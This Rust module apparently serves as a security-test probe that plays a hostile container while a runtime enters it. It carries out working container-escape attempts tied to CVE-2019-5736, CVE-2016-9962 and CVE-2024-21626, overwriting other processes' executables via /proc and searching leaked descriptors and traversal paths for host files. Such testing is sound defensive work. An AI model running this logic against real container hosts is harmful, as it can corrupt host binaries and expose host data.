//! What a hostile container tries while the runtime enters it.

use crate::json::{list, object, string};
use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::PathBuf;
use std::time::{Duration, Instant};

/// For some seconds: opens the program of every process that is not the probe, and tries to write
/// to it, at once and as soon as nobody runs it any more (CVE-2019-5736).
pub(crate) fn overwrite(seconds: u64) {
    let end = Instant::now() + Duration::from_secs(seconds);
    let (mut held, mut wrote) = (Vec::<File>::new(), 0u64);
    let mut seen = BTreeSet::new();
    println!("ready");
    while Instant::now() < end {
        for pid in processes() {
            let exe = pid.join("exe");
            let Ok(target) = fs::read_link(&exe) else { continue };
            if target.to_string_lossy().starts_with("/probe") {
                continue;
            }
            wrote += u64::from(scribble(&exe));
            if seen.insert((pid, target)) && held.len() < 500 {
                held.extend(File::open(&exe));
            }
        }
        for file in &held {
            wrote += u64::from(scribble(&PathBuf::from(format!("/proc/self/fd/{}", file.as_raw_fd()))));
        }
    }
    let names = seen.iter().map(|(_, target)| string(target)).collect::<BTreeSet<_>>();
    println!("{}", object([("seen", list(names)), ("held", held.len().to_string()), ("wrote", wrote.to_string())]));
}

fn scribble(path: &PathBuf) -> bool {
    OpenOptions::new().write(true).open(path).is_ok_and(|mut f| f.write_all(b"overwritten").is_ok())
}

/// For some seconds: looks through the descriptors of every other process for folders, and opens
/// them (CVE-2016-9962, CVE-2024-21626).
pub(crate) fn watch(seconds: u64) {
    let end = Instant::now() + Duration::from_secs(seconds);
    let own = PathBuf::from(format!("/proc/{}", std::process::id()));
    let mut folders = BTreeSet::new();
    let mut looked = 0u64;
    println!("ready");
    while Instant::now() < end {
        for pid in processes().into_iter().filter(|p| *p != own) {
            for fd in fs::read_dir(pid.join("fd")).into_iter().flatten().flatten() {
                looked += 1;
                let is_folder = fs::metadata(fd.path()).is_ok_and(|m| m.is_dir());
                if is_folder && let Ok(target) = fs::read_link(fd.path()) {
                    let inside = fs::read_dir(fd.path()).map(|d| d.flatten().count()).unwrap_or(0);
                    folders.insert(format!("{} ({inside} entries)", target.display()));
                }
            }
        }
    }
    println!("{}", object([("folders", list(folders.into_iter().map(string))), ("looked", looked.to_string())]));
}

/// For some seconds: looks for a file of the host below the root, the current folder and the
/// descriptors of the processes that come next, whose numbers it guesses.
pub(crate) fn roots(seconds: u64, path: &str) {
    let end = Instant::now() + Duration::from_secs(seconds);
    let mut next = std::process::id() + 1;
    let (mut found, mut looked) = (BTreeSet::new(), 0u64);
    println!("ready");
    while Instant::now() < end {
        let mut newest = next;
        for pid in next..next + 4 {
            for way in ["root", "cwd", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8", "fd/9", "fd/10"] {
                looked += 1;
                if fs::metadata(format!("/proc/{pid}/{way}/../../../../../..{path}")).is_ok() {
                    found.insert(way);
                }
            }
            if fs::metadata(format!("/proc/{pid}")).is_ok() {
                newest = pid;
            }
        }
        next = newest;
    }
    println!("{}", object([("found", list(found.into_iter().map(string))), ("looked", looked.to_string())]));
}

fn processes() -> Vec<PathBuf> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries.filter(|e| e.file_name().to_string_lossy().parse::<u32>().is_ok()).map(|e| e.path()).collect()
}
